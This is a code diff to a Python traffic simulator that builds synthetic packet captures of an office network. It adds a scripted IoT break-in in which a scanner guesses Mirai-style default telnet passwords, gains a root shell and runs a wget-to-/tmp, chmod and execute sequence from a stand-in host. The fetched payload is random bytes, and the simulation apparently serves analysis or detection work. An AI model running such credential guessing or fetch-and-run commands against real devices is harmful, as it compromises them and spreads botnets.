@@ -7,12 +7,15 @@ from scapy.layers.inet import ICMP
 from scapy.layers.inet6 import ICMPv6EchoReply, ICMPv6EchoRequest, ICMPv6ND_NA, ICMPv6ND_NS, IPv6
 from scapy.layers.l2 import ARP, Ether
 from scapy.packet import Raw
+from telnet_campaign import Visit
 from telnet_captures import DESK, DESK_2, PLANT, PRESS, PRESS_2, PUBLIC, ROUTER, ROUTER_MAC, SCANNER
 from traffic import ORIG, RESP, SECOND, Conversation, Host, Path, Traffic, ip_packet, unreachable
 
 NAME_SERVER = Host("02:42:c0:a8:01:35", "192.168.1.53", "2001:db8:1::53")
 WEB = tuple(Host(ROUTER_MAC, f"151.101.{i}.140", ttl=55) for i in (1, 65, 129, 193))
 DESKS = tuple(Host(f"02:42:c0:a8:01:{0x50 + i:02x}", f"192.168.1.{80 + i}") for i in range(6))
+STORE = Host(ROUTER_MAC, "198.51.100.77", ttl=52)
+ABROAD = Host(ROUTER_MAC, "185.199.111.153", ttl=51)
 NEAR = Path(one_way_ns=400_000)
 FAR = Path(one_way_ns=9_000_000)
 NAMES = ("intranet.example.com", "mail.example.com", "updates.example.net", "wiki.example.org")
@@ -79,12 +82,16 @@ def secure_shell(traffic: Traffic, at: float) -> None:
     talk.close(ORIG)
 
 
+def device(number: int) -> Host:
+    """One of the 16 machines of the hall."""
+    return Host(f"02:42:c0:a8:03:{16 + number:02x}", f"192.168.3.{16 + number}")
+
+
 def outside_scan(traffic: Traffic, at: float) -> None:
     """A scanner tries telnet on 16 addresses: 9 refuse, 4 stay silent, 2 are prohibited, 1 talks
     and is reset half open."""
     for i in range(16):
-        target = Host(f"02:42:c0:a8:03:{16 + i:02x}", f"192.168.3.{16 + i}")
-        talk = Conversation(traffic, (SCANNER, target), (60_100 + i, 23), at + 0.21 * i, FAR)
+        talk = Conversation(traffic, (SCANNER, device(i)), (60_100 + i, 23), at + 0.21 * i, FAR)
         syn = talk.segment(ORIG, "S", options=[("MSS", 1460)], window=29_200)
         if i < 9:
             talk.refuse()
@@ -93,6 +100,47 @@ def outside_scan(traffic: Traffic, at: float) -> None:
         elif i == 15:
             talk.segment(RESP, "SA", options=[("MSS", 1460)], window=64_240)
             talk.reset(ORIG, "R")
+
+
+def break_in(traffic: Traffic, at: float) -> None:
+    """The scanner comes back to the one that talked, a recorder: it guesses, is in as root, and has
+    a program fetched, which then tries to log in at a machine abroad.
+    """
+    recorder = device(15)
+    guess = Visit(traffic, 0, (SCANNER, recorder), at)
+    guess.begin()
+    guess.fail("admin", "admin")
+    guess.fail("root", "12345")
+    guess.fail("root", "888888", "")
+    guess.end()
+    visit = Visit(traffic, 1, (SCANNER, recorder), at + 18)
+    visit.begin()
+    visit.fail("root", "vizxv")
+    visit.whole("root", "root\r\nPassword: ")
+    visit.whole("xc3511", "\r\n\r\nBusyBox v1.19 built-in shell (ash)\r\n# ")
+    visit.whole("id", "id\r\nuid=0(root) gid=0(root)\r\n# ")
+    order = "cd /tmp; wget http://198.51.100.77/bins/arm7"
+    visit.whole(order, f"{order}\r\nConnecting to 198.51.100.77 (198.51.100.77:80)\r\n")
+    fetch(traffic, (recorder, STORE), at + 21)
+    visit.talk.wait(1_500)
+    visit.s("arm7 100% |*****| 5600 0:00:00 ETA\r\n# ")
+    visit.whole("chmod 777 arm7; ./arm7", "chmod 777 arm7; ./arm7\r\n# ")
+    visit.whole("exit", "exit\r\n")
+    visit.end()
+    call = Visit(traffic, 2, (recorder, ABROAD), at + 40)
+    call.begin()
+    call.fail("root", "admin", "")
+    call.end()
+
+
+def fetch(traffic: Traffic, ends: tuple[Host, Host], at: float) -> None:
+    """A file by HTTP, in four segments of octets that mean nothing."""
+    talk = Conversation(traffic, ends, (40_113, 80), at, FAR).open()
+    talk.say(ORIG, b"GET /bins/arm7 HTTP/1.1\r\nHost: 198.51.100.77\r\nUser-Agent: Wget\r\n\r\n", 2)
+    talk.say(RESP, b"HTTP/1.1 200 OK\r\nContent-Length: 5600\r\nConnection: close\r\n\r\n", 4)
+    for _ in range(4):
+        talk.say(RESP, traffic.random.randbytes(1400), 2)
+    talk.close(RESP)
 
 
 def stray_answers(traffic: Traffic, at: float) -> None:
@@ -104,7 +152,9 @@ def stray_answers(traffic: Traffic, at: float) -> None:
 
 
 def demo(traffic: Traffic) -> None:
-    """Ten minutes of an office: web, names, SSH, a scan, and three telnet logins that succeed."""
+    """Ten minutes of an office: web, names, SSH, three telnet logins of its people; and a scan from
+    outside, after which a recorder is broken into.
+    """
     office_web(traffic)
     neighbours(traffic, 1.0)
     ping(traffic, (DESK, ROUTER), 20.0)
@@ -119,3 +169,4 @@ def demo(traffic: Traffic) -> None:
     telnet_session(plant, "operator", "mixer-2")
     abroad = Conversation(traffic, (DESKS[3], PUBLIC), (50_620, 23), 402.0, FAR)
     telnet_session(abroad, "visitor", "mud")
+    break_in(traffic, 430.0)
